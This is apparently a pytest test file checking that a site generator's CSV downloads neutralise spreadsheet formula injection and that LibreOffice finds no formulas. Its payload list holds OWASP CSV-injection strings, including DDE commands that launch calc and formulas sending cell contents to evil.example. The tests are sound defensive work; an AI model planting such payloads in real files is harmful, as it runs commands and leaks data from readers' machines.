"""No spreadsheet formula reaches a reader (issue #18, item 4; OWASP "CSV injection").

Each OWASP payload is the activity of one record. Every CSV the site publishes is
read back: a cell a spreadsheet would take for a formula must carry the leading
apostrophe of the codebook's rule, the rule must give back the exact text, and the
JSON keeps it exactly. Where LibreOffice is installed, it opens the CSV for real and
must find no formula in any cell.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from helpers_content import BASE, BASE_ID, edit, make_site, write_record

from generator.build import build_site
from generator.downloads import FORMULA_START, neutralise

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+1",
    "-1+1",
    "@A1",
    "=2+5+cmd|' /C calc'!A0",
    "\uff1d1+1",
    "=rand()",
    "-=1",
    "\t=1+1",
    "\r=1+1",
    '=IMAGE("http://evil.example/x.png")',
    "+A1&A2",
    '=INDIRECT("A1")',
    "@cmd|'/C calc'!A0",
    "-",
]


def _record(number: int, payload: str) -> str:
    record_id = f"{BASE_ID}-{number:02d}"
    text = edit(BASE, f"id: {BASE_ID}", f"id: {record_id}")
    return edit(
        text,
        "activity: patroli dialogis menjelang pemungutan suara",
        f"activity: {json.dumps(payload)}",
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv")
    content = make_site(root, base=False)
    for number, payload in enumerate(PAYLOADS):
        write_record(content, f"{BASE_ID}-{number:02d}.md", _record(number, payload))
    output = root / "output"
    build_site(content, output)
    return output


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:  # a CR in a cell stays a CR
        return list(csv.DictReader(stream))


def test_every_csv_cell_is_safe_and_exact(site: Path) -> None:
    files = sorted(site.glob("**/*.csv"))
    assert len(files) > 2  # the whole set and the unit slices
    by_activity = {}
    for path in files:
        for row in _cells(path):
            for value in row.values():
                assert (
                    not value or value[0] not in FORMULA_START or value.lstrip("+-")[:1].isdigit()
                ), (path, value)
            if "activity" in row:
                by_activity[row["id"]] = row["activity"]
    for number, payload in enumerate(PAYLOADS):
        written = by_activity[f"{BASE_ID}-{number:02d}"]
        assert written == "'" + payload  # every payload needed the mark
        assert written[1:] == payload  # and removing it gives the exact text back
    records = json.loads((site / "data" / "records.json").read_text(encoding="utf-8"))
    assert sorted(
        r["activity"] for r in records["records"] if r["id"].startswith(BASE_ID)
    ) == sorted(PAYLOADS)


@pytest.mark.parametrize("number", ["-5", "+1.5", "12", "-0.25"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert neutralise(number) == number


def test_text_that_starts_safely_is_untouched() -> None:
    assert neutralise("patroli =1+1") == "patroli =1+1"
    assert neutralise("") == ""


def test_libreoffice_opens_no_formula(site: Path, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    assert office, "LibreOffice is not installed: run tests/setup-system.sh"
    import openpyxl

    source = tmp_path / "records.csv"
    shutil.copyfile(site / "data" / "records.csv", source)
    # Filter options: comma, double quote, UTF-8, from line 1; "evaluate formulas" on,
    # as a reader who double-clicks the file gets in some versions.
    subprocess.run(
        [
            office,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    book = openpyxl.load_workbook(tmp_path / "records.xlsx")
    sheet = book.active
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
    activities = {sheet.cell(row=r, column=3).value for r in range(2, sheet.max_row + 1)}
    assert "'=1+1" in activities or "=1+1" in activities


def test_openpyxl_makes_special_cells_only_of_what_the_workbook_guards() -> None:
    """The workbook hands openpyxl plain strings, except text starting with a formula
    character or '#' (made a quoted text cell of our own). That is safe only while openpyxl
    reads a plain string as a formula only when it starts with '=', and as an error value
    only when it is one of its codes, which all start with '#'."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ERROR_CODES

    assert "=" in FORMULA_START
    assert all(code.startswith("#") for code in ERROR_CODES)
    sheet = Workbook().active
    assert sheet is not None
    for text, kind in [("=1+1", "f"), ("#N/A", "e"), ("+1", "s"), ("@x", "s"), (" =1", "s")]:
        sheet["A1"] = text
        assert sheet["A1"].data_type == kind, text
